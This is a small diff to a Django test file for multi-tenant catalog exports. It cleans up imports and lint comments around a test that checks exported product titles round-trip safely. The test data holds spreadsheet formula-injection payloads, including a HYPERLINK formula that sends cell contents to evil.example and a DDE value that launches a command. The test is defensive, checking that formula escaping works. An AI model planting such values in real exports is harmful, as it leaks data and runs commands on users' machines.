@@ -10,7 +10,7 @@ from django_tenants.utils import tenant_context
 from tenant_apps.catalog.models import Product
 from tenant_apps.catalog.services.imports import escape_formula
 
-from ..catalog.conftest import eager_celery, role_client  # noqa: F401 - fixture
+from ..catalog.conftest import role_client
 
 TITLES = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)", "'quoted"]
 
@@ -61,7 +61,7 @@ def test_an_export_imports_back_with_the_original_titles(
     shop_a,
     shop_b,
     eager_celery,
-    django_capture_on_commit_callbacks,  # noqa: F811
+    django_capture_on_commit_callbacks,
 ):
     for title in TITLES:
         create(manager_a, title)
